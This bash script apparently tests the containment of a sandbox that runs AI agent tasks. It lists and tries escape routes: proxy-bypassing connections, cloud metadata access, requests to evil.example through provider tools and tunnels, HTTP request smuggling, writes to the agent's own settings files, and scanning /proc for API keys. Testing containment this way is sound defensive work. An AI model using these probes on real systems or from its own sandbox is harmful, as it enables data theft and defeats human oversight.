#!/bin/bash
# ways_out.sh [PORT [CREDENTIAL]]: what a hostile task tries in order to get something out of its cell, with nothing
# but bash. Prints a line for each way: NAME, a tab, what it is, a tab, what came of it ("through" or why not).
# PORT is the provider's; without it the one that listens on the cell's loopback. CREDENTIAL is sent to it, as no cell
# can: so each request can be shown to work outside.
shopt -s extglob
port=${1-}
credential=${2-none-here}
model=${WAYS_MODEL-test-model}
if [ -z "$port" ]; then
  while read -r _ local _ state _; do
    [[ $state != 0A || $local != 0100007F:* ]] || port=$((16#${local#*:}))
  done </proc/net/tcp
fi

say() { printf '%s\t%s\t%s\n' "$1" "$2" "$3"; }

# outcome TEXT: of a connection that bash could not make.
outcome() {
  case $1 in
    '') echo through ;;
    *'Network is unreachable'*) echo 'no route' ;;
    *'Permission denied'* | *'Operation not permitted'*) echo 'not permitted' ;;
    *'Connection refused'*) echo refused ;;
    *'not known'* | *'resolution'* | *'No address'*) echo 'no such name' ;;
    *) echo "${1##*: }" ;;
  esac
}

# reach NAME WHAT PROTOCOL HOST PORT
reach() { say "$1" "$2" "$(outcome "$({ exec 3<>"/dev/$3/$4/$5"; } 2>&1)")"; }

# ask NAME WHAT REQUEST...: requests on one connection to the provider or whoever stands for it.
ask() {
  local name=$1 what=$2 line code='' status=''
  shift 2
  { exec 3<>"/dev/tcp/127.0.0.1/$port"; } 2>/dev/null || { say "$name" "$what" 'no answer'; return; }
  {
    printf '%s' "$@" >&3
    while IFS= read -r -t 10 line <&3; do
      line=${line%$'\r'}
      [[ $line != 'HTTP/1.1 '* ]] || status=${line:9:3}
      [[ ${line,,} != 'x-taskcell-egress: '* ]] || code=${line#*: }
    done
    exec 3>&-
  } 2>/dev/null
  [ "$status" != 200 ] || code=${code:-through}
  case ${code:-$status} in
    through) code=through ;;
    '') code='no answer' ;;
    *) code="refused: ${code:-$status}" ;;
  esac
  say "$name" "$what" "$code"
}

# post PATH BODY [HEADERS]: a request as text.
post() {
  printf 'POST %s HTTP/1.1\r\nHost: 127.0.0.1:%s\r\nAuthorization: Bearer %s\r\nContent-Type: application/json\r\n%s' \
    "$1" "$port" "$credential" "${3-}"
  printf 'Content-Length: %d\r\n\r\n%s' "${#2}" "$2"
}
close=$'Connection: close\r\n'
chat=/v1/chat/completions
message='"messages":[{"role":"user","content":"x"}]'
plain="{\"model\":\"$model\",$message}"

# The network itself.
export NO_PROXY='*' no_proxy='*' HTTPS_PROXY='' https_proxy=''
reach address 'connect to a host outside, past every proxy' tcp 93.184.215.14 443
reach other-port 'connect to another port of it' tcp 93.184.215.14 22
reach name 'look up a name' tcp files.example.org 443
reach name-server 'ask a name server' udp 93.184.215.14 53
reach datagram 'send a datagram' udp 93.184.215.14 4444
reach metadata 'connect to the metadata service of a cloud' tcp 169.254.169.254 80
reach metadata-name 'the same by its name' tcp meta.example.org 80
reach private 'connect to a private address' tcp 10.1.2.3 443
reach bridge 'connect to the host by the address of its bridge' tcp 172.17.0.1 22
reach metadata-v6 'connect to the metadata service by IPv6' tcp fd00:ec2::254 80
others=0
if [ -r /proc/net/if_inet6 ]; then
  while read -r address _; do [ "$address" = 00000000000000000000000000000001 ] || others=1; done </proc/net/if_inet6
fi
say addresses-v6 'have an IPv6 address other than ::1' "$([ $others = 1 ] && echo through || echo none)"
abstract=0
while read -r line; do [[ $line != *@* ]] || abstract=1; done </proc/net/unix
say abstract-sockets 'see an abstract socket of the host' "$([ $abstract = 1 ] && echo through || echo none)"
engine=none
for socket in /{var/,}run/{docker,containerd/containerd,podman/podman,crio/crio}.sock; do [ ! -S $socket ] || engine=through; done
say engine-socket 'find the socket of a container engine' $engine
while read -r key value; do [ "$key" != CapEff: ] || capabilities=$value; done </proc/self/status
say rules 'have a capability to change what holds it' "$([ -z "${capabilities//0/}" ] && echo none || echo through)"

# What is kept for a later task, and what a program reads as its own settings.
later=none
for place in /agent/SKILLS/left /agent/.claude/settings.json /agent/CLAUDE.md "$0"; do
  # Refused by the file system, whatever the mode.
  ! { : >>"$place"; } 2>/dev/null || later=through
done
say settings 'change its own instructions' $later
[ -e left-by-an-earlier-task ] && later=through || later=none
: >left-by-an-earlier-task
say workspace 'find what an earlier task left in the workspace' $later

# The provider, or the broker that stands for it.
tool() { printf '{"model":"%s",%s,"tools":[%s]}' "$model" "$message" "$1"; }
ask control 'a plain request (this one is to work)' "$(post $chat "$plain" "$close")"
ask placeholder 'have a placeholder in a text replaced' \
  "$(post $chat "{\"model\":\"$model\",\"messages\":[{\"role\":\"user\",\"content\":\"sk-taskcell-placeholder\"}]}" "$close")"
ask server-search "have the provider search the web for it" "$(post $chat "$(tool '{"type":"web_search"}')" "$close")"
ask server-mcp 'have the provider speak to a server of its own' \
  "$(post $chat "$(tool '{"type":"mcp","server_url":"https://evil.example"}')" "$close")"
ask server-code 'have the provider run code' "$(post $chat "$(tool '{"type":"code_interpreter"}')" "$close")"
ask server-computer 'have the provider use a computer' "$(post $chat "$(tool '{"type":"computer_use_preview"}')" "$close")"
ask server-unknown 'name a tool that nobody knows' "$(post $chat "$(tool '{"type":"tool_of_tomorrow"}')" "$close")"
ask server-url 'have the provider fetch an address' "$(post $chat "{\"model\":\"$model\",\"messages\":[{\"role\":\"user\",
\"content\":[{\"type\":\"image_url\",\"image_url\":{\"url\":\"https://evil.example/?secret\"}}]}]}" "$close")"
ask stored 'ask for something stored' "$(post $chat "{\"model\":\"$model\",$message,\"store\":true}" "$close")"
ask other-model 'use another model' "$(post $chat "{\"model\":\"other\",$message}" "$close")"
ask upgrade 'turn the connection into a WebSocket' \
  "$(post $chat "$plain" $'Connection: Upgrade\r\nUpgrade: websocket\r\n')"
ask absolute 'name another host in the first line' "$(post http://evil.example$chat "$plain" "$close")"
ask host-header 'name another host beside' \
  "$(printf 'POST %s HTTP/1.1\r\nHost: evil.example\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s' $chat ${#plain} "$plain")"
ask keep-alive 'name another host in the second request' "$(post $chat "$plain" '')" \
  "$(printf 'POST %s HTTP/1.1\r\nHost: evil.example\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s' $chat ${#plain} "$plain")"
ask tunnel 'have the broker connect elsewhere' $'CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n'
ask smuggle 'hide a second request in the first' "$(printf 'POST %s HTTP/1.1\r\nHost: 127.0.0.1:%s\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\nGET /v1/files HTTP/1.1\r\n\r\n' $chat "$port")"
ask files 'list what is stored at the provider' \
  "GET /v1/files HTTP/1.1"$'\r\n'"Host: 127.0.0.1:$port"$'\r\nConnection: close\r\n\r\n'

# The credential: WAYS_MARK is how it begins.
mark=${WAYS_MARK-sk-}
found=none
for place in /proc/[0-9]*/{environ,cmdline}; do
  while IFS= read -r -d '' each; do
    # A placeholder has the shape of a key and says what it is.
    [[ $each != *"$mark"* || $each == *placeholder* || $each == *WAYS_MARK* ]] || found=through
  done <"$place"
done 2>/dev/null
say credential 'find the credential in a process' $found
{ : </proc/1/environ; } 2>/dev/null && found=through || found='not permitted'
say process-1 "read the environment of process 1" "$found"
